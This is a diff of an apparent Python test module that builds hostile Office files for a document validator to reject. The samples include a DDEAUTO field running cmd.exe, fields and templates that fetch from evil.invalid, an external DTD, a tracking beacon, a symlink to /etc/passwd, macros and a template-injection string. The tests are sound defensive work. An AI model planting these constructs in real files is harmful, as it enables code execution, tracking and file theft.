@@ -66,7 +66,7 @@ class Hostile:
     build: Callable[[], bytes]
 
 
-def _deck(change: Mapping[str, bytes], **replaced: tuple[bytes, bytes]) -> bytes:
+def deck_with(change: Mapping[str, bytes], **replaced: tuple[bytes, bytes]) -> bytes:
     parts = dict(deck_parts()) | dict(change)
     for name, (old, new) in replaced.items():
         place = {"types": _TYPES, "master": _MASTER, "master_rels": _MASTER_RELS}[name]
@@ -75,33 +75,35 @@ def _deck(change: Mapping[str, bytes], **replaced: tuple[bytes, bytes]) -> bytes
     return packed(parts)
 
 
-def _plan(change: Mapping[str, bytes]) -> bytes:
+def plan_with(change: Mapping[str, bytes]) -> bytes:
     return packed(dict(plan_parts()) | dict(change))
 
 
-def _relation(kind: str, target: str, outside: bool = True, identity: str = "rIdEvil") -> bytes:
+def relationship(kind: str, target: str, outside: bool = True, identity: str = "rIdEvil") -> bytes:
     mode = ' TargetMode="External"' if outside else ""
     return f'<Relationship Id="{identity}" Type="{_OR}/{kind}" Target="{target}"{mode}/></Relationships>'.encode()
 
 
 def _master_relation(kind: str, target: str, outside: bool = True, **parts: bytes) -> bytes:
     added = {name.replace("__", "/").replace("_dot_", "."): content for name, content in parts.items()}
-    return _deck(added, master_rels=(b"</Relationships>", _relation(kind, target, outside)))
+    return deck_with(added, master_rels=(b"</Relationships>", relationship(kind, target, outside)))
 
 
 def _document_relation(kind: str, target: str, outside: bool = True) -> bytes:
     rels = plan_parts()["word/_rels/document.xml.rels"]
-    return _plan({"word/_rels/document.xml.rels": rels.replace(b"</Relationships>", _relation(kind, target, outside))})
+    return plan_with(
+        {"word/_rels/document.xml.rels": rels.replace(b"</Relationships>", relationship(kind, target, outside))}
+    )
 
 
-def _body(xml: str) -> bytes:
+def body_with(xml: str) -> bytes:
     body = plan_parts()[_DOCUMENT]
     at = body.index(b"<w:body>") + len(b"<w:body>")
-    return _plan({_DOCUMENT: body[:at] + xml.encode() + body[at:]})
+    return plan_with({_DOCUMENT: body[:at] + xml.encode() + body[at:]})
 
 
 def _anchor(text: str) -> bytes:
-    return _body(f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>")
+    return body_with(f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>")
 
 
 def _doctype(part: bytes, declared: bytes, inside: bytes = b"") -> bytes:
@@ -147,13 +149,13 @@ def _macro() -> bytes:
         b"application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
         b"application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml",
     )
-    return _deck({_TYPES: types, "ppt/vbaProject.bin": b"x"})
+    return deck_with({_TYPES: types, "ppt/vbaProject.bin": b"x"})
 
 
 def _field(code: str) -> bytes:
     halves = code[:3], code[3:]
     runs = "".join(f'<w:r><w:instrText xml:space="preserve">{half}</w:instrText></w:r>' for half in halves)
-    return _body(
+    return body_with(
         f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
     )
 
@@ -165,8 +167,8 @@ def _linked_picture() -> bytes:
         b'<a:off x="0" y="0"/><a:ext cx="9" cy="9"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr>'
         b"</p:pic></p:spTree>"
     )
-    relation = _relation("image", "https://tracker.invalid/beacon.png")
-    return _deck({}, master=(b"</p:spTree>", picture), master_rels=(b"</Relationships>", relation))
+    relation = relationship("image", "https://tracker.invalid/beacon.png")
+    return deck_with({}, master=(b"</p:spTree>", picture), master_rels=(b"</Relationships>", relation))
 
 
 def _object() -> bytes:
@@ -177,21 +179,21 @@ def _object() -> bytes:
         b'<p:oleObj name="x" r:id="rIdEvil" progId="Package"><p:embed/></p:oleObj></a:graphicData></a:graphic>'
         b"</p:graphicFrame></p:spTree>"
     )
-    relation = _relation("oleObject", "../embeddings/oleObject1.bin", outside=False)
+    relation = relationship("oleObject", "../embeddings/oleObject1.bin", outside=False)
     types = (b"<Default ", b'<Default Extension="bin" ContentType="application/octet-stream"/><Default ')
     parts = {"ppt/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0 something"}
     if b'"bin"' in deck_parts()[_TYPES]:
         types = (b"<Default ", b"<Default ")
-    return _deck(parts, master=(b"</p:spTree>", frame), master_rels=(b"</Relationships>", relation), types=types)
+    return deck_with(parts, master=(b"</p:spTree>", frame), master_rels=(b"</Relationships>", relation), types=types)
 
 
 def _settings(tag: str) -> bytes:
     settings = plan_parts()["word/settings.xml"]
     at = settings.index(b"<w:", settings.index(b"<w:settings") + 5)
-    rels = f'<Relationships xmlns="{_PR}">'.encode() + _relation(tag, "https://evil.invalid/house.dotm")
+    rels = f'<Relationships xmlns="{_PR}">'.encode() + relationship(tag, "https://evil.invalid/house.dotm")
     element = f'<w:{tag} r:id="rIdEvil" xmlns:r="{_OR}"/>'.encode()
     changed = settings[:at] + element + settings[at:]
-    return _plan({"word/settings.xml": changed, "word/_rels/settings.xml.rels": rels})
+    return plan_with({"word/settings.xml": changed, "word/_rels/settings.xml.rels": rels})
 
 
 _SYMLINK = 0o120777 << 16
@@ -200,11 +202,11 @@ _ENTITY_WEB = b'<!DOCTYPE w SYSTEM "https://evil.invalid/x.dtd">'
 
 
 def _document(declared: bytes, inside: bytes) -> bytes:
-    return _plan({_DOCUMENT: _doctype(plan_parts()[_DOCUMENT], declared, inside)})
+    return plan_with({_DOCUMENT: _doctype(plan_parts()[_DOCUMENT], declared, inside)})
 
 
-def _theme(content: bytes) -> bytes:
-    return _deck({"ppt/theme/theme1.xml": content})
+def theme_with(content: bytes) -> bytes:
+    return deck_with({"ppt/theme/theme1.xml": content})
 
 
 HOSTILE: dict[str, Hostile] = {
@@ -224,7 +226,7 @@ HOSTILE: dict[str, Hostile] = {
     "part twice by case": Hostile("x.pptx", "same_part_twice", lambda: _with_entry(_MASTER.upper(), b"<x/>")),
     "symbolic link": Hostile("x.pptx", "symbolic_link", lambda: _with_entry("ppt/x", b"/etc/passwd", _SYMLINK)),
     "encrypted member": Hostile("x.pptx", "encrypted", lambda: _with_entry("ppt/x.bin", b"xx", flags=1)),
-    "truncated": Hostile("x.pptx", "damaged", lambda: _deck({})[:-900]),
+    "truncated": Hostile("x.pptx", "damaged", lambda: deck_with({})[:-900]),
     "flipped bytes": Hostile("x.pptx", "damaged", lambda: _flipped()),
     "old binary": Hostile("x.pptx", "old_or_encrypted", lambda: bytes.fromhex("d0cf11e0a1b11ae1") + bytes(4096)),
     "no package": Hostile("x.docx", "no_package", lambda: b"%PDF-1.7 nothing else"),
@@ -236,20 +238,22 @@ HOSTILE: dict[str, Hostile] = {
     "entity in UTF-16": Hostile(
         "x.pptx",
         "document_type",
-        lambda: _theme('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a [<!ENTITY b "c">]><a/>'.encode("utf-16")),
+        lambda: theme_with(
+            '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a [<!ENTITY b "c">]><a/>'.encode("utf-16")
+        ),
     ),
     "entity in relationships": Hostile(
         "x.pptx",
         "document_type",
-        lambda: _deck({"_rels/.rels": b'<!DOCTYPE a [<!ENTITY b "c">]>' + deck_parts()["_rels/.rels"][55:]}),
+        lambda: deck_with({"_rels/.rels": b'<!DOCTYPE a [<!ENTITY b "c">]>' + deck_parts()["_rels/.rels"][55:]}),
     ),
-    "deep nesting": Hostile("x.pptx", "too_deep", lambda: _theme(b"<a>" * 5_000 + b"</a>" * 5_000)),
-    "a million elements": Hostile("x.pptx", "too_many_elements", lambda: _theme(b"<a>" + _noise() + b"</a>")),
-    "huge part": Hostile("x.pptx", "part_too_big", lambda: _theme(b"<a>" + _noise() * 2 + b"</a>")),
-    "broken markup": Hostile("x.pptx", "bad_markup", lambda: _theme(b"<a><b></a>")),
+    "deep nesting": Hostile("x.pptx", "too_deep", lambda: theme_with(b"<a>" * 5_000 + b"</a>" * 5_000)),
+    "a million elements": Hostile("x.pptx", "too_many_elements", lambda: theme_with(b"<a>" + _noise() + b"</a>")),
+    "huge part": Hostile("x.pptx", "part_too_big", lambda: theme_with(b"<a>" + _noise() * 2 + b"</a>")),
+    "broken markup": Hostile("x.pptx", "bad_markup", lambda: theme_with(b"<a><b></a>")),
     # code
     "macros": Hostile("x.pptx", "macros", _macro),
-    "macros without a type": Hostile("x.docx", "macros", lambda: _plan({"word/vbaProject.bin": b"x"})),
+    "macros without a type": Hostile("x.docx", "macros", lambda: plan_with({"word/vbaProject.bin": b"x"})),
     "control": Hostile("x.docx", "active_content", lambda: _document_relation("control", "x.xml", outside=False)),
     "imported page": Hostile("x.docx", "active_content", lambda: _document_relation("aFChunk", "x.htm", False)),
     "program": Hostile("x.pptx", "program", lambda: _with_entry("ppt/embeddings/setup.exe", b"x")),
@@ -257,7 +261,7 @@ HOSTILE: dict[str, Hostile] = {
     "button": Hostile(
         "x.pptx",
         "action",
-        lambda: _deck({}, master=(b'<p:cNvPr id="2"', b'<p:cNvPr descr="ppaction://program?x" id="2"')),
+        lambda: deck_with({}, master=(b'<p:cNvPr id="2"', b'<p:cNvPr descr="ppaction://program?x" id="2"')),
     ),
     "DDE field": Hostile("x.docx", "field_code", lambda: _field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe")),
     "fetching field": Hostile("x.docx", "field_code", lambda: _field('INCLUDEPICTURE "https://evil.invalid/x"')),
@@ -277,7 +281,7 @@ HOSTILE: dict[str, Hostile] = {
     "a deck called plan": Hostile("x.docx", "wrong_kind", lambda: packed(deck_parts())),
     "a plan called deck": Hostile("x.pptx", "wrong_kind", lambda: packed(plan_parts())),
     "no main part": Hostile(
-        "x.pptx", "wrong_kind", lambda: _deck({"_rels/.rels": f'<Relationships xmlns="{_PR}"/>'.encode()})
+        "x.pptx", "wrong_kind", lambda: deck_with({"_rels/.rels": f'<Relationships xmlns="{_PR}"/>'.encode()})
     ),
     # text that computes
     "attribute walk": Hostile("x.docx", "anchor_syntax", lambda: _anchor("{{ jbp.__class__.__mro__ }}")),
@@ -298,7 +302,7 @@ def _noise() -> bytes:
 
 
 def _flipped() -> bytes:
-    content = bytearray(_deck({}))
+    content = bytearray(deck_with({}))
     for at in range(2_000, 2_200):
         content[at] ^= 0xFF
     return bytes(content)
